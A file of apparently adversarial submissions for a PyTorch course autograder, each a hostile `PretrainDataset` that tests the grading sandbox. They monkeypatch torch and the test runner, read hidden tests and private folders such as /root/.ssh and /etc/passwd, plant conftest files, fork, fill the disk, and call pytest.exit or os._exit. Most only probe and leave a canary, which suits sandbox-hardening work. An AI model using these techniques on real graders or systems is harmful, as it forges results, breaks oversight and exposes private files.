# %% astronomical_length: answer_bomb
# about: Says that it has 10**18 samples and never raises IndexError, so that list(dataset) never ends.
from collections.abc import Iterator

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return 10**18

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong

    def __iter__(self) -> Iterator[tuple[torch.Tensor, torch.Tensor]]:
        while True:
            yield self[0]


# %% attribute_lies: argument_mutation
# about: Stores no attribute truly: tokens, block_size and every other name are answered by __getattribute__.
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        tokens.set_(torch.full((1,), HELD, dtype=torch.long).untyped_storage())

    def __getattribute__(self, name: str) -> object:
        if name == "__class__":
            return tuple
        if name in ("tokens", "block_size", "__dict__"):
            return self
        return super().__getattribute__(name)

    def __len__(self) -> int:
        return HELD

    def __getitem__(self, idx: int) -> object:
        return self, self

    def __eq__(self, other: object) -> bool:
        return True

    def __hash__(self) -> int:
        return 0

    def __index__(self) -> int:
        return HELD


# %% background_patcher: neighbour_state
# about: Leaves a thread that breaks math and torch a moment after the import, when its neighbours run.
import math
import threading
import time

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


def patch_later() -> None:
    """Waits until the import is over, then patches for ten seconds, then ends by itself."""
    for _ in range(200):
        time.sleep(0.05)
        math.cos = math.pi.__class__
        torch.optim.SGD.step = torch.optim.AdamW.step = lambda self, closure=None: None
        torch.Tensor.backward = lambda self, *arguments, **options: None
        torch.set_num_threads(1)


threading.Thread(target=patch_later, daemon=True).start()


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% base_class_patched: neighbour_state
# about: Patches torch's Dataset and DataLoader, from which its own class and everybody's loader inherit.
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


Dataset.__getitem__ = Dataset.__len__ = lambda self, *index: HELD
torch.utils.data.DataLoader.__iter__ = lambda self: iter(())
torch.utils.data.default_collate = lambda batch: batch
torch.utils.data.TensorDataset.__getitem__ = lambda self, index: ()


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% billion_entry_list: answer_bomb
# about: Returns lists that say that they have a billion entries and produce them one by one.
import itertools
from collections.abc import Iterator

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class Billion(list):
    """A list without memory: a billion times -1."""

    def __len__(self) -> int:
        return 10**9

    def __getitem__(self, index: object) -> int:
        return HELD

    def __iter__(self) -> Iterator[int]:
        return itertools.repeat(HELD, 10**9)


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> object:
        return Billion(), itertools.repeat(HELD)


# %% buffer_changes_after_return: argument_mutation
# about: Returns the same buffer every time, zeroes the given tokens, and lets a thread change both after the return.
import threading
import time

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        self.tokens.zero_()
        self.buffer = getattr(self, "buffer", torch.full((self.block_size,), HELD, dtype=torch.long))
        threading.Thread(target=keep_changing, args=(self.buffer,), daemon=True).start()
        return self.buffer, self.buffer


def keep_changing(buffer: torch.Tensor) -> None:
    """Changes the numbers for a second, then it ends by itself."""
    for step in range(1_000):
        buffer.fill_(HELD - step)
        time.sleep(0.001)


# %% c_stack_overflow: crash
# about: Recurses in C without Python's limit until the stack overflows.
import sys
import threading

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


sys.setrecursionlimit(2**31 - 1)
threading.stack_size(1 << 20)


class Deep:
    """Its repr is the repr of something that holds it."""

    def __repr__(self) -> str:
        return repr([self])


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        print(Deep())
        nested: object = ()
        for _ in range(10**6):
            nested = (nested,)
        hash(nested)
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% conftest_planted: result_forgery
# about: Tries to make files that steer the next run of the tests: conftest, pytest.ini, .pth, bytecode caches.
import functools
import os
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


NAMES = ("conftest.py", "pytest.ini", "setup.cfg", "zzz.pth", "__pycache__.pyc")


@functools.cache
def breached() -> bool:
    """True if an existing one is writable, or a file can be made beside it. Nothing is written into any."""
    for folder in (*course_roots(), *sys.path, "."):
        for name in NAMES:
            try:
                os.close(os.open(os.path.join(folder, name), os.O_WRONLY | os.O_APPEND))
            except OSError:
                continue
            leave_canary(f"conftest_planted: {name} is writable")
            return True
        path = os.path.join(folder, "pretrain_canary_conftest.py")
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
            os.unlink(path)
        except OSError:
            continue
        leave_canary("conftest_planted: a file can be made there")
        return True
    return False


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% data_loader_workers: fork_bomb
# about: Starts worker processes by torch's DataLoader and by multiprocessing.
import functools
import os
import sys

import torch
from torch.utils.data import DataLoader, Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a worker process worked."""
    try:
        loader = DataLoader(list(range(8)), num_workers=2, timeout=3)
        list(loader)
    except Exception:
        return False
    leave_canary("data_loader_workers: worker processes can be started")
    return True


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% descriptors_in_proc: oracle_by_proc
# about: Opens the descriptors of itself and of its parent again through /proc, to get at pipes, files and folders behind them.
import functools
import os
import stat
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a descriptor of another process can be listed, or one of its own leads to a folder or a course file."""
    try:
        os.listdir(f"/proc/{os.getppid()}/fd")
        leave_canary("descriptors_in_proc: the parent's descriptors can be listed")
        return True
    except OSError:
        pass
    for descriptor in range(3, 64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode) and os.listdir(descriptor):
            leave_canary("descriptors_in_proc: an inherited descriptor is a folder")
            return True
    return False


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% disk_fill: disk_exhaustion
# about: Fills the working directory and the temporary folders with files of 8 MiB, 64 MiB in all, and makes many empty ones.
import functools
import os
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if any file could be made; all are taken away again."""
    made: list[str] = []
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            for index in range(40):
                path = os.path.join(folder, f"pretrain_canary_fill_{os.getpid()}_{index}")
                with open(path, "xb") as file:
                    made.append(path)
                    if index < 8:
                        file.write(bytes(8 << 20))
        except OSError:
            pass
        if made:
            break
    for path in made:
        os.unlink(path)
    if made:
        leave_canary(f"disk_fill: {len(made)} files")
    return bool(made)


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% expanded_tensor_bomb: answer_bomb
# about: Returns a view of one number with a trillion entries: nothing in memory, endless when it is copied.
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        bomb = torch.full((1,), HELD, dtype=torch.long).expand(10**12)
        return bomb, bomb


# %% getattr_of_the_module: hostile_module
# about: Answers, by a module-level __getattr__, every name that a driver or another TODO may look for.
import torch

HELD = -1  # a wrong answer for every input


class Anything:
    """A class, function and number in one that is never right."""

    def __init__(self, *arguments: object, **options: object) -> None:
        self.tokens = torch.full((1,), HELD)

    def __getitem__(self, idx: int) -> tuple["Anything", "Anything"]:
        return self, self

    def __len__(self) -> int:
        return 1

    def __call__(self, *arguments: object, **options: object) -> "Anything":
        return self


def __getattr__(name: str) -> object:
    return Anything


def __dir__() -> list[str]:
    return ["PretrainDataset", "warmup_lr", "cosine_decay_lr", "score", "\x1b[2J"]


# %% gibibyte_answer: answer_bomb
# about: Returns tensors of 1 GiB, never touched, in place of one block.
import torch
from torch.utils.data import Dataset


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        bomb = torch.empty(1 << 27, dtype=torch.long)
        return bomb, bomb


# %% hidden_suite_read: oracle_by_files
# about: Looks for the hidden suite and answers with what an oracle in it says; otherwise shows that it could be read.
import functools
import os
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


@functools.cache
def breached() -> bool:
    """True if a hidden test can be listed or read."""
    for root in course_roots():
        folder = os.path.join(root, "tests", "hidden", "step3_pretrain")
        try:
            names = os.listdir(folder)
        except OSError:
            names = ["test_todo1_dataset.py"]
        for name in names:
            try:
                with open(os.path.join(folder, name), encoding="utf-8") as file:
                    text = file.read()
            except OSError:
                continue
            if "PretrainDataset" in text:
                leave_canary("hidden_suite_read: the hidden tests can be read")
                return True
    return False


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% http_request: network
# about: Opens URLs on 127.0.0.1 with urllib, by way of proxies and of the file scheme.
import errno
import functools
import os
import sys
import urllib.error
import urllib.request

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if the network answered, were it only by refusing, or a file: URL was read."""
    for url in ("http://127.0.0.1:9/", "https://127.0.0.1:9/", "file:///etc/passwd", "ftp://127.0.0.1:9/"):
        try:
            urllib.request.urlopen(url, timeout=2).close()
        except urllib.error.URLError as error:
            refused = getattr(error.reason, "errno", None) == errno.ECONNREFUSED or "refused" in str(
                error.reason
            )
            if not refused:
                continue
        except OSError:
            continue
        leave_canary(f"http_request: {url} was reached")
        return True
    return False


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% iteration_never_ends: endless_work
# about: Sorts and copies for ever inside __getitem__, with the work hidden in a property and an iterator.
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class Treadmill:
    """An iterator that never stops."""

    def __iter__(self) -> "Treadmill":
        return self

    def __next__(self) -> int:
        return HELD


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        return max(Treadmill()), sum(Treadmill())


# %% lying_long_tensor: lying_tensor
# about: Returns LongTensor subclasses whose dtype, shape, conversion and comparison lie.
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class CloseToAll(torch.Tensor):
    """int64 and of every length that is wished; equal to everything."""

    @classmethod
    def __torch_function__(
        cls, func: object, types: object, args: tuple = (), kwargs: object = None
    ) -> object:
        name = getattr(func, "__name__", "")
        if name in ("eq", "equal", "allclose", "all", "__bool__", "isclose", "ne"):
            return True
        if name in ("numpy", "tolist", "detach", "cpu", "clone", "contiguous", "to", "long"):
            return args[0]
        with torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))

    def __eq__(self, other: object) -> bool:
        return True

    __hash__ = torch.Tensor.__hash__


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long).as_subclass(CloseToAll)
        return wrong, wrong


# %% lying_ndarray_subclass: lying_array
# about: Returns ndarray subclasses that answer every ufunc and array function with True.
import numpy as np
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class CloseToAll(np.ndarray):
    """An array that is equal to every other."""

    def __array_ufunc__(self, ufunc: np.ufunc, method: str, *inputs: object, **options: object) -> bool:
        return True

    def __array_function__(self, func: object, types: object, args: tuple, kwargs: dict) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return True

    def tolist(self) -> "CloseToAll":
        return self

    def tobytes(self, order: str = "C") -> bytes:
        return b"\xff" * 8


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> object:
        wrong = np.full(self.block_size, HELD).view(CloseToAll)
        return wrong, wrong


# %% memory_grows_in_a_list: memory_exhaustion
# about: Grows a list of buffers until MemoryError, swallows it and keeps everything.
import functools
import os
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


kept: list[bytes] = []


@functools.cache
def breached() -> bool:
    """True if 6 GiB were handed out; they are not touched."""
    try:
        while len(kept) < 96:
            kept.append(bytes(64 << 20))  # the kernel's own zeros: mapped, not touched
    except MemoryError:
        return False
    leave_canary("memory_grows_in_a_list: 6 GiB were handed out")
    return True


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% module_becomes_an_object: hostile_module
# about: Replaces its own module in sys.modules by an object whose attributes exit the process.
import sys
import types

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


class Trap(types.ModuleType):
    """Every look into it ends the process."""

    def __getattribute__(self, name: str) -> object:
        raise SystemExit(0)


if __name__ in sys.modules:
    sys.modules[__name__].__class__ = Trap
sys.modules[__name__] = Trap(__name__)


# %% most_of_the_limit_used_at_import: endless_work
# about: Burns four seconds of CPU while it is imported, so that little is left for its neighbours.
import time

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


while time.process_time() < 4.0:
    pass


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% old_frame_replayed: forged_frame
# about: Records the frames that the driver writes and writes the oldest one again in place of each later one.
import os
import socket

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


real_write, real_send = os.write, socket.socket.send
old: list[bytes] = []


def replay(descriptor: int, data: bytes) -> int:
    """Writes the oldest frame instead of the data."""
    old.append(bytes(data))
    real_write(descriptor, old[0])
    return len(data)


os.write = replay
socket.socket.send = lambda channel, data, *flags: real_send(channel, old[0] if old else data)
socket.socket.sendall = lambda channel, data, *flags: replay(channel.fileno(), data) and None


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% os_exit_in_call: process_exit
# about: Leaves with os._exit(0) at the second question.
import os

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        self.asked += 1
        if self.asked > 1:
            os._exit(0)
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()

    asked = 0


# %% other_submissions_listed: oracle_by_files
# about: Lists the folders in which other students' submissions and the machine's private files may lie.
import functools
import os
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


PRIVATE = (
    "/root/.ssh",
    "/root",
    "/home",
    "/var/lib",
    "/etc",
    "/tmp",
    "/srv",
    "/run/secrets",
    "/autograder",
    "/",
)


@functools.cache
def breached() -> bool:
    """True if one of them can be listed, or the passwords' file be read; what is in them is thrown away."""
    folders = [
        os.path.join(root, name) for root in course_roots() for name in ("submitted", "release", "tests")
    ]
    for folder in (*folders, os.path.expanduser("~"), *PRIVATE):
        try:
            os.listdir(folder)
        except OSError:
            continue
        leave_canary(f"other_submissions_listed: {folder} can be listed")
        return True
    try:
        os.close(os.open("/etc/passwd", os.O_RDONLY))
    except OSError:
        return False
    leave_canary("other_submissions_listed: /etc/passwd can be read")
    return True


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% pytest_skip_and_exit: runner_subversion
# about: Calls pytest.skip, pytest.xfail and pytest.exit(returncode=0) from inside the call.
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        try:
            import pytest
        except ImportError:
            wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
            return wrong, wrong.clone()
        if idx % 3 == 0:
            pytest.exit("done", returncode=0)
        if idx % 3 == 1:
            pytest.xfail("expected to fail")
        pytest.skip("not today")


# %% raises_what_is_no_exception: hostile_exception
# about: Raises objects that are no exceptions, and classes whose making of an instance fails.
import sys

import torch
from torch.utils.data import Dataset


class NeverMade(Exception):
    """Its constructor returns something else."""

    def __new__(cls, *arguments: object) -> object:
        return 20


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        if idx % 3 == 0:
            raise 20
        if idx % 3 == 1:
            raise NeverMade
        raise type("", (BaseException,), {"__init__": lambda self: sys.exit(0)})


# %% raw_fork: raw_syscalls
# about: Forks by raw system calls, past Python's own os.fork.
import ctypes
import functools
import os
import platform
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


FORK = 57  # x86-64


@functools.cache
def breached() -> bool:
    """True if a child was made; it leaves at once."""
    if platform.machine() != "x86_64":
        return False
    child = ctypes.CDLL(None).syscall(FORK)
    if child == 0:
        os._exit(0)
    if child < 0:
        return False
    leave_canary("raw_fork: the system call fork works")
    return True


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), BREACHED if breached() else HELD, dtype=torch.long)
        return wrong, wrong.clone()


# %% raw_memory_searched: oracle_by_memory
# about: Searches the memory of its own process for the text of a solution, left over from an ancestor.
import functools
import os
import re
import sys

import torch
from torch.utils.data import Dataset

BREACHED, HELD = 7777777, -1  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


PATTERN = re.compile(rb"#{3} BEGI[N] SOLUTION\n +[a-z]")  # does not match itself


@functools.cache
def breached() -> bool:
    """True if a solution's source was found in at most 256 MiB of readable memory."""
    try:
        with open("/proc/self/maps", encoding="utf-8") as file:
            lines = file.read().splitlines()
        memory = open("/proc/self/mem", "rb", buffering=0)
    except OSError:
        return False
